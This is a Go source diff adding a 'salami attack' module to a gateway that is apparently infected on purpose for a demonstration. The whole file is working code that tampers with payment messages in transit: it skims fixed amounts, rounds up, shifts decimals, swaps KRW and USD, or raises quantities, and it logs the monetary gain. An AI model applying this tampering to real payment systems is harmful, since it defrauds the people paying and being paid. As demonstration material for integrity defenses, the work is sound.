@@ -0,0 +1,196 @@
+package attacks
+
+import (
+	"fmt"
+	"math"
+	"strconv"
+	"time"
+
+	"github.com/sage-x-project/sage-gateway-infected-for-demo/config"
+	"github.com/sage-x-project/sage-gateway-infected-for-demo/logger"
+	"github.com/sage-x-project/sage-gateway-infected-for-demo/types"
+)
+
+// SalamiAttack tampers with payments by amounts small or plausible enough to
+// pass naive business-rule checks (limits, non-zero amounts): a fixed skim,
+// rounding up, swapping KRW and USD, shifting the decimal point or adding
+// items to an order. Recipients and descriptions are left alone.
+type SalamiAttack struct {
+	config *config.Config
+}
+
+// NewSalamiAttack creates a new salami attack handler
+func NewSalamiAttack(cfg *config.Config) *SalamiAttack {
+	return &SalamiAttack{
+		config: cfg,
+	}
+}
+
+// ModifyMessage applies the configured salami mode and appends an
+// "economic impact" change describing what the tampering is worth
+func (a *SalamiAttack) ModifyMessage(originalMsg map[string]interface{}) (*types.AttackLog, map[string]interface{}) {
+	modifiedMsg := copyMap(originalMsg)
+	var metadata map[string]interface{}
+	if m, ok := originalMsg["metadata"].(map[string]interface{}); ok {
+		metadata = copyMap(m)
+		modifiedMsg["metadata"] = metadata
+	}
+
+	attackLog := &types.AttackLog{
+		Timestamp:   time.Now(),
+		AttackType:  string(types.AttackTypeSalami),
+		OriginalMsg: originalMsg,
+		Changes:     []types.Change{},
+	}
+
+	amount, hasAmount := salamiAmount(modifiedMsg, metadata)
+	currency := salamiCurrency(modifiedMsg, metadata)
+	scopes := []struct {
+		prefix string
+		m      map[string]interface{}
+	}{{"", modifiedMsg}, {"metadata.", metadata}}
+
+	var impact string
+	switch mode := a.config.GetSalamiMode(); mode {
+	case config.SalamiModeSkim, config.SalamiModeRound, config.SalamiModeScale:
+		for _, scope := range scopes {
+			for _, key := range []string{"amount", "amountKRW"} {
+				v, ok := toFloat(scope.m[key])
+				if !ok || v <= 0 {
+					continue
+				}
+				var newV float64
+				switch mode {
+				case config.SalamiModeSkim:
+					newV = v + a.config.SalamiSkim
+				case config.SalamiModeRound:
+					newV = math.Ceil(v/a.config.SalamiRoundUnit) * a.config.SalamiRoundUnit
+				default:
+					newV = v * math.Pow10(a.config.SalamiScaleDigits)
+				}
+				if newV == v {
+					continue
+				}
+				scope.m[key] = newV
+				if key == "amountKRW" && scope.prefix != "" {
+					scope.m["payment.amountKRW"] = newV
+				}
+				attackLog.Changes = append(attackLog.Changes, types.Change{
+					Field: scope.prefix + key, OriginalValue: v, ModifiedValue: newV,
+				})
+			}
+		}
+		if len(attackLog.Changes) > 0 {
+			newAmount, _ := salamiAmount(modifiedMsg, metadata)
+			delta := formatMoney(newAmount-amount, currency)
+			if newAmount > amount {
+				delta = "+" + delta
+			}
+			impact = fmt.Sprintf("%s -> %s (%s, %+.2f%%)", formatMoney(amount, currency), formatMoney(newAmount, currency),
+				delta, (newAmount-amount)/amount*100)
+		}
+
+	case config.SalamiModeCurrency:
+		swapped := map[string]string{"KRW": "USD", "USD": "KRW"}
+		for _, scope := range scopes {
+			if c, ok := scope.m["currency"].(string); ok && swapped[c] != "" {
+				scope.m["currency"] = swapped[c]
+				attackLog.Changes = append(attackLog.Changes, types.Change{
+					Field: scope.prefix + "currency", OriginalValue: c, ModifiedValue: swapped[c],
+				})
+			}
+		}
+		if len(attackLog.Changes) > 0 && hasAmount {
+			// The number stays, so its value changes by the exchange rate
+			factor := a.config.SalamiKRWPerUSD
+			if currency == "USD" {
+				factor = 1 / factor
+			}
+			impact = fmt.Sprintf("%s -> %s (worth %s, %.4gx)", formatMoney(amount, currency), formatMoney(amount, swapped[currency]),
+				formatMoney(amount*factor, currency), factor)
+		}
+
+	case config.SalamiModeQuantity:
+		for _, scope := range scopes {
+			quantity, ok := toFloat(scope.m["quantity"])
+			if !ok || quantity <= 0 {
+				continue
+			}
+			newQuantity := quantity + float64(a.config.SalamiQuantityDelta)
+			if newQuantity < 0 {
+				newQuantity = 0
+			}
+			scope.m["quantity"] = newQuantity
+			attackLog.Changes = append(attackLog.Changes, types.Change{
+				Field: scope.prefix + "quantity", OriginalValue: quantity, ModifiedValue: newQuantity,
+			})
+			if impact == "" {
+				impact = fmt.Sprintf("%g -> %g items", quantity, newQuantity)
+				if hasAmount {
+					impact += fmt.Sprintf(" for the same %s (%+g items worth %s)", formatMoney(amount, currency),
+						newQuantity-quantity, formatMoney((newQuantity-quantity)*amount/quantity, currency))
+				}
+			}
+		}
+	}
+
+	if len(attackLog.Changes) == 0 {
+		logger.Warn("No field for salami mode %s in message", a.config.GetSalamiMode())
+		return nil, originalMsg
+	}
+	if impact != "" {
+		logger.Info("💸 Salami (%s): %s", a.config.GetSalamiMode(), impact)
+		attackLog.Changes = append(attackLog.Changes, types.Change{
+			Field: "economic impact", OriginalValue: a.config.GetSalamiMode(), ModifiedValue: impact,
+		})
+	}
+
+	attackLog.ModifiedMsg = modifiedMsg
+	return attackLog, modifiedMsg
+}
+
+// salamiAmount returns the first positive amount, checked in the order the
+// receivers read it
+func salamiAmount(msg, metadata map[string]interface{}) (float64, bool) {
+	for _, v := range []interface{}{metadata["amountKRW"], metadata["amount"], msg["amount"]} {
+		if amount, ok := toFloat(v); ok && amount > 0 {
+			return amount, true
+		}
+	}
+	return 0, false
+}
+
+// salamiCurrency returns the declared currency, KRW for amountKRW, or ""
+func salamiCurrency(msg, metadata map[string]interface{}) string {
+	for _, m := range []map[string]interface{}{metadata, msg} {
+		if c, ok := m["currency"].(string); ok && c != "" {
+			return c
+		}
+	}
+	if _, ok := metadata["amountKRW"]; ok {
+		return "KRW"
+	}
+	return ""
+}
+
+// toFloat converts JSON and Go numbers to float64
+func toFloat(v interface{}) (float64, bool) {
+	switch n := v.(type) {
+	case float64:
+		return n, true
+	case int:
+		return float64(n), true
+	case int64:
+		return float64(n), true
+	}
+	return 0, false
+}
+
+// formatMoney renders an amount rounded to cents with its currency, if known
+func formatMoney(amount float64, currency string) string {
+	s := strconv.FormatFloat(math.Round(amount*100)/100, 'f', -1, 64)
+	if currency == "" {
+		return s
+	}
+	return s + " " + currency
+}